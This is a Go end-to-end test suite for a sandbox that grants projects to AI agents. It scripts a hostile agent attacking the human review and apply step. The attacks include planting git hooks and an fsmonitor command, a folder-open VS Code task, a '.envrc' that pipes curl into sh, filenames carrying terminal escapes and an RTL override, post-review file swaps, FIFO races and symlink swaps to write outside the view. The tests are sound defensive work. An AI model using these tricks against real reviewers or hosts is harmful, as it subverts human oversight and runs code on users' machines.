//go:build linux

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/osaurus/osaurus-sandbox/config"
	"github.com/osaurus/osaurus-sandbox/projects"
)

// trustEnv is a project granted to a hostile agent on the shared guest.
type trustEnv struct {
	te    *toolsEnv
	cli   cliRun
	paths config.Paths
	repo  string
	slug  string
	a     *session
	view  string // the agent's view, in the guest
}

func newTrustEnv(t *testing.T) *trustEnv {
	// The owner's data folder is the VM's: the projects' views are in its
	// workspace, as the app's are.
	te := newToolsEnvCAs(t, false)
	e := &trustEnv{te: te, cli: cliRun{t: t, bin: te.bin, home: te.home}, paths: config.Paths{Root: te.home}}
	e.repo = gitRepo(t, map[string]string{"README.md": "# app\n", "src/app.py": "print('hi')\n"})
	e.cli.ok("project", "add", e.repo, "--name", "web")
	m := te.addAgent(t, "mallory", autonomous(100, false))
	e.slug = m.Slug
	e.cli.ok("agent", "set", m.Slug, "projects", "web")
	e.a = te.http(t, m.Slug)
	e.view = projects.GuestDir("web")
	return e
}

// sh runs a shell command as the agent in its view.
func (e *trustEnv) sh(t *testing.T, cmd string) string {
	t.Helper()
	r := e.a.ok(t, "sandbox_exec", map[string]any{"command": "cd " + e.view + " && " + cmd, "timeout": 300})
	if num(r["exit_code"]) != 0 {
		t.Fatalf("%s: %v", cmd, r)
	}
	return r["stdout"].(string)
}

// run is the CLI with a deadline: a host that blocks fails the test
// instead of hanging it.
func (e *trustEnv) run(t *testing.T, d time.Duration, args ...string) (string, string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	cmd := exec.CommandContext(ctx, e.cli.bin, args...)
	cmd.Env = append(os.Environ(), config.HomeEnv+"="+e.cli.home)
	var o, er strings.Builder
	cmd.Stdout, cmd.Stderr = &o, &er
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("osaurus-sandbox %s blocked for %v", strings.Join(args, " "), d)
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return o.String(), er.String(), code
}

func (e *trustEnv) changes(t *testing.T) projects.ChangeSet {
	t.Helper()
	out, errOut, code := e.run(t, 2*time.Minute, "changes", e.slug, "web", "--json")
	if code != 0 {
		t.Fatalf("changes: exit %d %s", code, errOut)
	}
	var cs projects.ChangeSet
	if err := json.Unmarshal([]byte(out), &cs); err != nil {
		t.Fatal(err)
	}
	return cs
}

// reset drops every change left, so each attack starts clean.
func (e *trustEnv) reset(t *testing.T) {
	t.Helper()
	e.cli.ok("discard", e.slug, "web", "--yes")
	if cs := e.changes(t); len(cs.Changes) != 0 {
		t.Fatalf("changes after discard: %+v", cs.Changes)
	}
}

func changeIn(cs projects.ChangeSet, path string) *projects.Change {
	for i := range cs.Changes {
		if cs.Changes[i].Path == path {
			return &cs.Changes[i]
		}
	}
	return nil
}

func readHost(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func mustNotExist(t *testing.T, p string) {
	t.Helper()
	if _, err := os.Lstat(p); !os.IsNotExist(err) {
		t.Fatalf("%s exists (%v)", p, err)
	}
}

// TestProjectsTrust attacks `changes` and `apply` as a hostile agent on
// the real guest would (issue 30, items 1, 2, 5, 6, 7, 13): every change
// the agent makes goes through its own tools inside the VM.
func TestProjectsTrust(t *testing.T) {
	e := newTrustEnv(t)

	t.Run("ApplyWritesExactlyTheReview", func(t *testing.T) {
		e.sh(t, "echo 'reviewed' > README.md && echo 'x = 1' > src/util.py")
		cs := e.changes(t)
		if len(cs.Review) != 32 || changeIn(cs, "README.md") == nil || changeIn(cs, "README.md").Hash == "" {
			t.Fatalf("review: %+v", cs)
		}
		// After the user read the review, the agent swaps README.md's
		// content and adds a file.
		e.sh(t, "echo 'EVIL!!!!' > README.md && echo 'import os' > src/late.py")
		out, errOut, code := e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes")
		if code != ExitErrorCode {
			t.Fatalf("apply of a stale review: exit %d\n%s%s", code, out, errOut)
		}
		for _, line := range []string{"applied src/util.py\n", "changed README.md: changed since you reviewed it", "changed src/late.py: appeared since you reviewed it"} {
			if !strings.Contains(out, line) {
				t.Errorf("apply output lacks %q:\n%s", line, out)
			}
		}
		if got := readHost(t, filepath.Join(e.repo, "README.md")); got != "# app\n" {
			t.Fatalf("README.md in the folder: %q", got)
		}
		mustNotExist(t, filepath.Join(e.repo, "src/late.py"))
		// A review id that was never made, or made up from a path, is refused.
		for _, id := range []string{"0123456789abcdef0123456789abcdef", "../../../etc/passwd"} {
			if _, errOut, code := e.run(t, time.Minute, "apply", e.slug, "web", "--review", id, "--yes"); code == 0 || !strings.Contains(errOut, "review") {
				t.Fatalf("apply --review %s: exit %d %s", id, code, errOut)
			}
		}
		// apply without --review shows what it writes and writes exactly that.
		out, _, code = e.run(t, 2*time.Minute, "apply", e.slug, "web", "--yes")
		if code != 0 || !strings.Contains(out, "review ") || !strings.Contains(out, "applied README.md") {
			t.Fatalf("apply: exit %d\n%s", code, out)
		}
		if got := readHost(t, filepath.Join(e.repo, "README.md")); got != "EVIL!!!!\n" {
			t.Fatalf("README.md after a fresh review: %q", got)
		}
		e.reset(t)
	})

	t.Run("GitInternalsNeverApplied", func(t *testing.T) {
		marker := filepath.Join(t.TempDir(), "pwned")
		// The guest has no git: the agent writes git's files itself.
		e.sh(t, fmt.Sprintf("mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch %s\\n' > .git/hooks/post-checkout && cp .git/hooks/post-checkout .git/hooks/pre-commit && chmod +x .git/hooks/* && printf '[core]\\n\\tfsmonitor = touch %s\\n[alias]\\n\\tst = !touch %s\\n' >> .git/config", marker, marker, marker))
		cs := e.changes(t)
		for _, p := range []string{".git/hooks/post-checkout", ".git/config"} {
			if c := changeIn(cs, p); c == nil || !strings.Contains(c.Refused, ".git") {
				t.Fatalf("%s in the review: %+v", p, c)
			}
		}
		out, _, _ := e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes", "--allow-exec-paths", "--force")
		if strings.Contains(out, "applied .git") {
			t.Fatalf("git internals applied:\n%s", out)
		}
		mustNotExist(t, filepath.Join(e.repo, ".git/hooks/post-checkout"))
		gitIn(t, e.repo, "status")
		gitIn(t, e.repo, "-c", "user.name=u", "-c", "user.email=u@localhost", "commit", "-q", "--allow-empty", "-m", "x")
		if _, err := os.Stat(marker); err == nil {
			t.Fatal("the agent's command ran on the host")
		}
		if cfg := readHost(t, filepath.Join(e.repo, ".git/config")); strings.Contains(cfg, "fsmonitor") {
			t.Fatalf(".git/config applied: %s", cfg)
		}
		e.reset(t)
	})

	t.Run("HostExecPathsNeedTheirOwnConfirmation", func(t *testing.T) {
		e.sh(t, `mkdir -p .vscode .github/workflows && echo '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch /tmp/pwned","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json && echo 'curl example | sh' > .envrc && echo 'on: push' > .github/workflows/ci.yml && echo ok > plain.txt`)
		out, _, _ := e.run(t, 2*time.Minute, "changes", e.slug, "web")
		if !strings.Contains(out, ".vscode/tasks.json  (runs on your computer") || !strings.Contains(out, "--allow-exec-paths") {
			t.Fatalf("changes does not flag .vscode/tasks.json:\n%s", out)
		}
		cs := e.changes(t)
		out, _, code := e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes")
		if code != ExitErrorCode || !strings.Contains(out, "applied plain.txt") || !strings.Contains(out, "refused .vscode/tasks.json") {
			t.Fatalf("apply without the confirmation: exit %d\n%s", code, out)
		}
		for _, p := range []string{".vscode/tasks.json", ".envrc", ".github/workflows/ci.yml"} {
			mustNotExist(t, filepath.Join(e.repo, p))
		}
		out, _, code = e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes", "--allow-exec-paths", ".vscode/tasks.json")
		if code != 0 || !strings.Contains(readHost(t, filepath.Join(e.repo, ".vscode/tasks.json")), "folderOpen") {
			t.Fatalf("apply with --allow-exec-paths: exit %d\n%s", code, out)
		}
		e.reset(t)
	})

	t.Run("ReviewsAreSafeToRead", func(t *testing.T) {
		e.sh(t, `printf 'x\n' > "$(printf 'a\rrefused b.txt')" && printf 'x\n' > "$(printf 'c\033[2Kd.txt')" && printf 'x\n' > "$(printf 'evil\342\200\256txt.sh')" && printf '# app\nok\r\033[2Khidden\n' > README.md`)
		out, _, _ := e.run(t, 2*time.Minute, "changes", e.slug, "web")
		if strings.ContainsAny(out, "\r\x1b\u202e") {
			t.Fatalf("changes printed raw control characters: %q", out)
		}
		for _, want := range []string{`a\rrefused b.txt`, `c\x1b[2Kd.txt`, `evil\u202etxt.sh`, `+ok\r\x1b[2Khidden`} {
			if !strings.Contains(out, want) {
				t.Errorf("changes lacks %q:\n%s", want, out)
			}
		}
		cs := e.changes(t)
		for _, p := range []string{"a\rrefused b.txt", "c\x1b[2Kd.txt", "evil\u202etxt.sh"} {
			if c := changeIn(cs, p); c == nil || !strings.Contains(c.Refused, "no terminal") {
				t.Errorf("%q: %+v", p, c)
			}
		}
		out, _, _ = e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes")
		if strings.ContainsAny(out, "\r\x1b\u202e") {
			t.Fatalf("apply printed raw control characters: %q", out)
		}
		mustNotExist(t, filepath.Join(e.repo, "evil\u202etxt.sh"))
		gitIn(t, e.repo, "checkout", "README.md")
		e.reset(t)
	})

	t.Run("CaseFoldCollisionsRefused", func(t *testing.T) {
		before := readHost(t, filepath.Join(e.repo, "README.md"))
		e.sh(t, "mv README.md readme.md && echo other > src/APP.py")
		cs := e.changes(t)
		for _, p := range []string{"README.md", "readme.md", "src/APP.py"} {
			if c := changeIn(cs, p); c == nil || !strings.Contains(c.Refused, "case") {
				t.Fatalf("%s: %+v", p, c)
			}
		}
		e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes")
		if readHost(t, filepath.Join(e.repo, "README.md")) != before {
			t.Fatal("README.md was changed")
		}
		mustNotExist(t, filepath.Join(e.repo, "readme.md"))
		mustNotExist(t, filepath.Join(e.repo, "src/APP.py"))
		e.reset(t)
	})

	t.Run("NewFilesBelongToTheFolderOwner", func(t *testing.T) {
		if os.Geteuid() != 0 {
			t.Fatal("this test runs as root (the configuration in which apply could create root's files)")
		}
		if err := os.Chown(e.repo, 4321, 4321); err != nil {
			t.Fatal(err)
		}
		e.sh(t, "mkdir -p new/deep && echo x > new/deep/f.txt")
		e.cli.ok("apply", e.slug, "web", "--yes")
		for _, p := range []string{"new", "new/deep", "new/deep/f.txt"} {
			st, err := os.Lstat(filepath.Join(e.repo, p))
			if err != nil {
				t.Fatal(err)
			}
			if s := st.Sys().(*syscall.Stat_t); s.Uid != 4321 || s.Gid != 4321 {
				t.Errorf("%s owned by %d:%d, want the folder's 4321:4321", p, s.Uid, s.Gid)
			}
		}
	})

	t.Run("SparseHugeFileBounded", func(t *testing.T) {
		e.sh(t, "truncate -s 4T huge.img && truncate -s 100M big.img")
		start := time.Now()
		cs := e.changes(t)
		if d := time.Since(start); d > time.Minute {
			t.Fatalf("changes took %v over a sparse file", d)
		}
		if c := changeIn(cs, "huge.img"); c == nil || !strings.Contains(c.Refused, "too big") || c.Hash != "" {
			t.Fatalf("huge.img: %+v", c)
		}
		if c := changeIn(cs, "big.img"); c == nil || !c.Large {
			t.Fatalf("big.img: %+v", c)
		}
		out, _, code := e.run(t, 2*time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes")
		if code != ExitErrorCode || !strings.Contains(out, "refused huge.img") || !strings.Contains(out, "refused big.img") || !strings.Contains(out, "--allow-large") {
			t.Fatalf("apply: exit %d\n%s", code, out)
		}
		mustNotExist(t, filepath.Join(e.repo, "huge.img"))
		mustNotExist(t, filepath.Join(e.repo, "big.img"))
		e.reset(t)
	})

	t.Run("FIFOSwappedInNeverBlocks", func(t *testing.T) {
		// The agent swaps a FIFO in for a regular file as fast as it can
		// while the host reviews and applies: each must return.
		e.sh(t, "mkdir -p swap && echo x > swap/f")
		var wg sync.WaitGroup
		wg.Add(1)
		var loop string
		go func() {
			defer wg.Done()
			r := e.a.call(t, "sandbox_exec", map[string]any{"command": "cd " + e.view + "/swap && end=$(($(date +%s)+40)); while [ $(date +%s) -lt $end ] && [ ! -e stop ]; do echo x > f.n; mv -f f.n f; rm -f p; mkfifo p; mv -f p f; done; echo done", "timeout": 120})
			loop = fmt.Sprint(r)
		}()
		deadline := time.Now().Add(35 * time.Second)
		n := 0
		for time.Now().Before(deadline) {
			out, errOut, code := e.run(t, time.Minute, "changes", e.slug, "web", "--json")
			var cs projects.ChangeSet
			if code == 0 && json.Unmarshal([]byte(out), &cs) == nil && cs.Review != "" {
				e.run(t, time.Minute, "apply", e.slug, "web", "--review", cs.Review, "--yes", "swap/f")
			} else if code != 0 && !strings.Contains(errOut, "swap") {
				t.Logf("changes: exit %d %s", code, errOut)
			}
			n++
		}
		e.sh(t, "touch swap/stop")
		wg.Wait()
		if !strings.Contains(loop, "done") {
			t.Fatalf("the agent's swap loop: %s", loop)
		}
		if st, err := os.Lstat(filepath.Join(e.repo, "swap/f")); err == nil && !st.Mode().IsRegular() {
			t.Fatalf("a fifo reached the folder: %v", st.Mode())
		}
		t.Logf("%d reviews and applies ran during the swaps", n)
		os.RemoveAll(filepath.Join(e.repo, "swap"))
		e.sh(t, "rm -rf swap")
		e.reset(t)
	})
}

// TestProjectsTrustTaking attacks a view while it is taken (issue 30,
// items 3 and 4): one agent swaps the folders of the copy in progress for
// links to a host folder, another tries to read the copy of a project it
// was never granted. Nothing may be written outside the view and nothing
// of the project may be read.
func TestProjectsTrustTaking(t *testing.T) {
	e := newTrustEnv(t)
	eve := e.te.addAgent(t, "eve", autonomous(50, false))
	ev := e.te.http(t, eve.Slug)
	// A project big enough that its copy takes a while.
	big := filepath.Join(t.TempDir(), "big")
	for d := 0; d < 60; d++ {
		for f := 0; f < 150; f++ {
			write(t, filepath.Join(big, fmt.Sprintf("d%03d/f%03d.txt", d, f)), "TOPSECRET content\n")
		}
	}
	e.cli.ok("project", "add", big, "--name", "big")
	outside := t.TempDir()
	os.Chmod(outside, 0o777)
	swap := fmt.Sprintf(`touch ~/swap-started; end=$(($(date +%%s)+90)); n=0
while [ $(date +%%s) -lt $end ] && [ ! -d /workspace/projects/big ]; do
  for d in /workspace/projects/.[!.]*/d* /workspace/projects/.[!.]*/*/d*; do
    [ -d "$d" ] && [ ! -L "$d" ] && mv "$d" "$d.moved" 2>/dev/null && ln -s %s "$d" && n=$((n+1))
  done
done; echo swapped $n`, outside)
	peek := `touch /tmp/peek-started; end=$(($(date +%s)+90)); n=0
while [ $(date +%s) -lt $end ] && [ ! -e /tmp/stop-peek ]; do
  cat /workspace/.projects/*/.[!.]*/d*/f*.txt /workspace/.projects/.[!.]*/*/d*/f*.txt 2>/dev/null | grep -q TOPSECRET && n=$((n+1))
done; echo read $n`
	var wg sync.WaitGroup
	var swapped, peeked string
	wg.Add(2)
	go func() {
		defer wg.Done()
		r := e.a.call(t, "sandbox_exec", map[string]any{"command": swap, "timeout": 180})
		swapped = fmt.Sprint(r.Result)
	}()
	go func() {
		defer wg.Done()
		r := ev.call(t, "sandbox_exec", map[string]any{"command": peek, "timeout": 180})
		peeked = fmt.Sprint(r.Result)
	}()
	// Both loops run before the grant.
	deadline := time.Now().Add(2 * time.Minute)
	for {
		r1 := e.a.call(t, "sandbox_exec", map[string]any{"command": "test -e ~/swap-started"})
		r2 := ev.call(t, "sandbox_exec", map[string]any{"command": "test -e /tmp/peek-started"})
		if r1.OK && r2.OK && num(r1.Result.(map[string]any)["exit_code"]) == 0 && num(r2.Result.(map[string]any)["exit_code"]) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the agents' loops did not start: %+v %+v", r1, r2)
		}
		time.Sleep(200 * time.Millisecond) // between polls
	}
	_, errOut, code := e.run(t, 5*time.Minute, "agent", "set", e.slug, "projects", "web,big")
	ev.call(t, "sandbox_exec", map[string]any{"command": "touch /tmp/stop-peek"})
	wg.Wait()
	t.Logf("grant: exit %d %s; agent: %s; other agent: %s", code, errOut, swapped, peeked)
	ents, _ := os.ReadDir(outside)
	if len(ents) != 0 {
		t.Fatalf("taking the view wrote %d entries outside it (%s)", len(ents), ents[0].Name())
	}
	if !strings.Contains(peeked, "read 0") {
		t.Fatalf("an agent never granted the project read it while it was taken: %s", peeked)
	}
	if code != 0 {
		t.Fatalf("grant: exit %d %s", code, errOut)
	}
	if out := e.sh(t, "ls /workspace/projects/big | wc -l; cat /workspace/projects/big/d059/f149.txt"); out != "60\nTOPSECRET content\n" {
		t.Fatalf("the view of big: %q", out)
	}
}
